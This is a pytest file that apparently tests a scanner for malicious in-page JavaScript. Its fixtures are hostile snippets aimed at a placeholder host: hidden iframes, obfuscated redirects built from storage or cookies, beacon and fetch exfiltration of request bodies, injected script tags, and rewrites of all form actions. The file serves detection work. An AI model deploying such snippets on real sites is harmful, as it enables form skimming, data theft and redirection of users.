"""What reckoning follows beyond values: looks, stores, cookies, hooks, what is handed on, what is only data."""

from __future__ import annotations

import pytest

from scanner.scripts.reckoning import reckoned
from scanner.scripts.reckoning.data import only_data

FRAME = "var f=document.createElement('iframe');{};f.src='//'+['k8','example'].join('.');document.body.append(f)"


def near(code: str) -> set[str]:
    return {each for act in reckoned(code).acts for each in act.near}


def addresses(code: str) -> set[tuple[str, str]]:
    return {(act.kind, act.address) for act in reckoned(code).acts}


@pytest.mark.parametrize(
    ("style", "sign"),
    [
        ("f.style.display='none'", "unseen"),
        ("f.style.cssText='position:absolute;left:-5000px'", "aside"),
        ("f.style='width:0;height:0'", "unseen"),
        ("f.width=1;f.height=1", "unseen"),
        ("f.hidden=true", "unseen"),
        ("Object.assign(f.style,{position:'fixed',width:'100vw',height:'100vh'})", "cover"),
    ],
)
def test_how_a_frame_looks(style, sign):
    assert sign in near(FRAME.format(style))


def test_an_ordinary_frame_looks_like_nothing():
    assert not near(FRAME.format("f.style.width='600px';f.height=420")) & {"unseen", "aside", "cover"}


@pytest.mark.parametrize(
    "code",
    [
        "sessionStorage.setItem('a','//k8');location=sessionStorage.getItem('a')+'.example'; /* -------------- */",
        "localStorage.a='//k8';localStorage['b']='.example';location=localStorage.a+localStorage.getItem('b'); /**/",
        "document.cookie='_k=azg=;path=/';location='//'+atob(/_k=([^;]+)/.exec(document.cookie)[1])+'.example'",
        "class A{get h(){return 'k8'}}class B extends A{constructor(){super();location='//'+this.h+'.example'}}new B",
        "class A{constructor(){location='//'+['k8','example'].join('.')}}class B extends A{};new B; /* -------- */",
        "const m=new WeakMap,o={};m.set(o,'//k8');location=m.get(o)+'.example'; /* --------------------------- */",
    ],
)
def test_what_is_put_away_comes_back(code):
    assert ("move", "//k8.example") in addresses(code)


@pytest.mark.parametrize(
    ("code", "address"),
    [
        ("require.config({paths:{a:'//'+['k8','example'].join('.')+'/a'}});require(['a']); /* ------- */", "/a"),
        ("new Loader(['//'+'k8.'+'example/b']).go(); /* --------------------------------------------- */", "/b"),
    ],
)
def test_what_is_handed_to_strangers_functions(code, address):
    assert ("given", "//k8.example" + address) in addresses(code)


def test_what_is_shown_is_not_handed_over():
    assert not addresses("$('#t').text('//'+['k8','example'].join('.')); /* ------------------------------- */")


@pytest.mark.parametrize(
    ("code", "sign"),
    [
        ("var f=document.forms;navigator.sendBeacon('https://k8.example/','1'); /* ------ */", "unanswered"),
        ("var s=document.createElement('script');s.src='https://k8.example/'+btoa(location.host)", "sent-coded"),
        ("axios.interceptors.request.use(function(c){fetch('https://k8.example/',{body:c.data})})", "sent-body"),
        ("new MutationObserver(function(){location='https://k8.example/'}).observe(document.body)", "observed"),
        ("$.post('/book',{t:'<script src=\"//k8.example/a.js\"></'+'script>'}); /* ------------- */", "posted"),
        ("document.querySelectorAll('form').forEach(f=>f.action='https://k8.example/'); /* ----- */", "all-forms"),
        ("var s=document.createElement('script');s.src='//w'+Math.random()+'.com/a.js'; /* ----- */", "drawn"),
    ],
)
def test_what_is_known_of_an_act(code, sign):
    assert sign in near(code)


@pytest.mark.parametrize(
    "code",
    [
        "addEventListener('message',e=>{location.href='/back?code='+e.data.code;fetch('https://k8.example/')})",
        "fetch('https://k8.example/').then(r=>r.json()).then(j=>{location.href='/list?n='+j.n}); /* ------------- */",
    ],
)
def test_an_answer_in_ones_own_address_leads_nowhere(code):
    assert "answer-move" not in near(code)


@pytest.mark.parametrize("code", ["var x=7*6;x", "[1,2,3]", "({'a':1})", "Math.floor(9.5)+parseInt('12',10)"])
def test_data(code):
    assert only_data(code)


@pytest.mark.parametrize(
    "code", ["go()", "x.y", "x[0](1)", "location='//k8.example'", "(0,f)(1)", "`a${b()}`", "top['x']"]
)
def test_no_data(code):
    assert not only_data(code)
